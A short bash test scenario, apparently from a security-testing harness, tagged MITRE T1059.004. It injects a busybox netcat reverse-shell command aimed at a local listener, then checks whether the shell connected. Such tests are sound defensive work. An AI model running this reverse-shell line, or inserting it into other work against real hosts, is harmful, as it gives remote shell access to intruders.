# SPDX-License-Identifier: Apache-2.0 OR MIT
# shellcheck shell=bash disable=SC2034,SC2154
technique=T1059.004
about="a reverse shell by busybox nc"
attack() { inject '
busybox nc 127.0.0.1 4447 -e /bin/sh
'; }
before() { echo 'busybox echo yes' | timeout 10 nc -N -l 127.0.0.1 4447 >"$state/heard" 2>/dev/null & }
effect() { grep -q yes "$state/heard"; }
